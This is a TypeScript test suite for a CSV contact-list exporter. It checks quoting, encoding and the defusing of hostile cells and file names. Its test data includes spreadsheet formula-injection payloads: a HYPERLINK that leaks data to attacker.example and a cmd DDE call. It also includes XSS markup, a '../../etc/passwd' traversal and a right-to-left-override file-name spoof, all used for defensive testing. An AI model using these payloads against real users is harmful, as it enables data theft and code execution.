import { readFileSync } from 'node:fs';
import path from 'node:path';
import { contactBankFromRows } from '@showroom/contract';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { contactListCsv, contactListFileName, neutraliseFormula } from './contactListCsv.ts';
import { parseContactsCsv } from './parseContactsCsv.ts';

// The shared fixtures sit beside the repository (shared/README.md): read there, never copied.
const fixtures = path.resolve(import.meta.dirname, '../../../../../../../shared/fixtures/contacts');

/** The bank a rep gets by uploading a fixture with 'The first row is for header' ticked. */
const uploaded = (name: string, firstRowIsHeader = true) => {
  const result = parseContactsCsv(readFileSync(path.join(fixtures, name), 'utf8'));
  if (result.status !== 'parsed') throw new Error(`${name} was refused: ${result.message}`);
  return contactBankFromRows(result.rows, firstRowIsHeader);
};

/** The exported file read back the way a strict RFC 4180 reader would. */
const readBack = (csv: string) => {
  const result = Papa.parse<string[]>(csv.slice(1), {
    delimiter: ',',
    newline: '\r\n',
    skipEmptyLines: true,
  });
  expect(result.errors).toEqual([]);
  return result.data;
};

describe('contactListCsv with the shared fixtures', () => {
  it('formula-injection.csv: stored as typed, every formula cell neutralised in the export only', () => {
    const bank = uploaded('formula-injection.csv');
    // The upload keeps the cells exactly as typed.
    expect(bank.bank[0]!.name).toBe('=HYPERLINK("http://attacker.example/?leak="&A1;"click")');
    expect(bank.bank[0]!.company).toBe("+cmd|' /C calc'!A0");
    const before = structuredClone(bank);

    const csv = contactListCsv(bank);
    expect(readBack(csv)).toEqual([
      ['name', 'email', 'company'],
      [
        '\'=HYPERLINK("http://attacker.example/?leak="&A1;"click")',
        'eve@attacker.example',
        "'+cmd|' /C calc'!A0",
      ],
      ["'@SUM(1+1)", 'mallory@attacker.example', "'-2+3"],
    ]);
    // The quote inside the formula is doubled and the whole field quoted (RFC 4180 §2.7).
    expect(csv).toContain('"\'=HYPERLINK(""http://attacker.example/?leak=""&A1;""click"")"');
    // Exporting changed nothing in the list itself.
    expect(bank).toEqual(before);
  });

  it('xss.csv: markup and placeholders go out as the same text, nothing added', () => {
    const csv = contactListCsv(uploaded('xss.csv'));
    expect(readBack(csv)).toEqual([
      ['name', 'email', 'company'],
      ['<img src=x onerror=alert(1)>', 'xss@attacker.example', "<script>alert('c')</script>"],
      ['{{prospect_name}}', 'braces@attacker.example', '<b>bold</b>'],
    ]);
    expect(csv).not.toContain('&lt;');
  });

  it('salesforce-report.csv: a line break and doubled quotes stay inside one field', () => {
    const bank = uploaded('salesforce-report.csv');
    const rows = readBack(contactListCsv(bank));
    expect(rows).toHaveLength(bank.bank.length + 1);
    expect(rows.flat()).toContain('John "Jack" Kilby');
    expect(rows.flat().some((cell) => /Kitchawan Rd\r?\n/.test(cell))).toBe(true);
  });

  it('semicolon-eu.csv: accents intact, written with commas, UTF-8 with a BOM', () => {
    const bank = uploaded('semicolon-eu.csv');
    const csv = contactListCsv(bank);
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    const bytes = new TextEncoder().encode(csv);
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = readBack(csv);
    expect(rows[0]).toEqual(bank.headers);
    expect(rows.slice(1)).toEqual(bank.bank.map((row) => bank.headers.map((header) => row[header])));
  });

  it('no-header.csv uploaded without a header row: exported without the made-up column names', () => {
    const bank = uploaded('no-header.csv', false);
    expect(bank.headers[0]).toBe('Column 1');
    const rows = readBack(contactListCsv(bank));
    expect(rows).toHaveLength(2);
    expect(rows.flat()).not.toContain('Column 1');
  });
});

describe('contactListCsv: the rules', () => {
  it('quotes every field, doubles quotes, ends lines with CRLF', () => {
    const csv = contactListCsv({
      headers: ['a', 'b'],
      showHeaders: true,
      bank: [{ a: 'x, "y"', b: '' }, { a: 'line\nbreak' }],
    });
    expect(csv).toBe('\uFEFF"a","b"\r\n"x, ""y""",""\r\n"line\nbreak",""\r\n');
  });

  it('neutralises = + - @ tab CR and NUL at the start only', () => {
    for (const cell of ['=1+1', '+1', '-1', '@A1', '\t=1', '\r=1', '\0=1'])
      expect(neutraliseFormula(cell)).toBe(`'${cell}`);
    for (const cell of ['a=1', 'ada@example.com', "'=1", '', '1-2', ' a', '\u00A0Ada', 'Ｂ＝1'])
      expect(neutraliseFormula(cell)).toBe(cell);
  });

  it('neutralises a formula behind whitespace, a no-break space or a zero-width character, and fullwidth ＝ ＋ － ＠', () => {
    for (const cell of [
      ' =1+1',
      '  +1',
      '\n=1',
      '\u00A0=HYPERLINK("http://attacker.example")',
      '\u200B@SUM(1+1)',
      '\u200D\u2060-2+3',
      '\uFEFF=1',
      '\u202E=1',
      '＝1+1',
      '＋1',
      '－1',
      '＠SUM(A1)',
      ' \u00A0\u200B＝cmd',
    ])
      expect(neutraliseFormula(cell)).toBe(`'${cell}`);
  });

  it('neutralises a formula in a column name too', () => {
    const csv = contactListCsv({ headers: ['=cmd'], showHeaders: true, bank: [{ '=cmd': 'ok' }] });
    expect(readBack(csv)).toEqual([["'=cmd"], ['ok']]);
  });
});

describe('contactListFileName', () => {
  it('makes a file name of the title', () => {
    expect(contactListFileName('Q3 webinar attendees')).toBe('Q3 webinar attendees.csv');
    expect(contactListFileName('<img src=x onerror=alert(1)> partners')).toBe(
      'img src=x onerror=alert(1)- partners.csv',
    );
    expect(contactListFileName('../../etc/passwd')).toBe('etc-passwd.csv');
    expect(contactListFileName('a\r\nb')).toBe('a-b.csv');
    expect(contactListFileName('   ')).toBe('contact-list.csv');
  });

  it('drops bidirectional controls, so the name shows as it is', () => {
    // 'invoice' + RIGHT-TO-LEFT OVERRIDE + 'vsc.exe' shows as 'invoiceexe.csv' in a file manager.
    expect(contactListFileName('invoice\u202Evsc.exe')).toBe('invoicevsc.exe.csv');
    for (const control of [
      '\u061C',
      '\u200E',
      '\u200F',
      '\u202A',
      '\u202B',
      '\u202C',
      '\u202D',
      '\u2066',
      '\u2067',
      '\u2068',
      '\u2069',
    ])
      expect(contactListFileName(`a${control}b`)).toBe('ab.csv');
  });
});
